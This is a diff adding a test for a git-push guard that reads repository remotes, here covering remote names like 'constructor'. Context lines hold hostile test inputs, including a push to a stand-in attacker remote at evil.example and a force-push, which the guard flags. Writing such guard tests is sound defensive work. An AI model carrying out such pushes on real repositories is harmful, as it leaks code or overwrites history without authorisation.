@@ -103,6 +103,18 @@ describe('guardGitPush', () => {
     expect(kinds('git push --repo=https://evil.example/x.git')).toContain('unknown-remote');
   });
 
+  it('reads remotes named like Object.prototype members as remotes', () => {
+    // Remote names are the repository's own: `constructor` once made the reader throw.
+    git('remote', 'add', 'constructor', remote);
+    try {
+      expect(readRemotes(repo)).toEqual({ origin: [remote], constructor: [remote] });
+      expect(check('git push constructor feature')).toEqual({ allowed: true, violations: [] });
+      expect(kinds('git push toString feature')).toEqual(['unknown-remote']);
+    } finally {
+      git('remote', 'remove', 'constructor');
+    }
+  });
+
   it('checks every git push in a compound command and nothing else', () => {
     expect(kinds('npm test && git push -f origin feature')).toEqual(['force']);
     expect(check('git commit -m "never git push -f origin main"')).toMatchObject({ allowed: true });
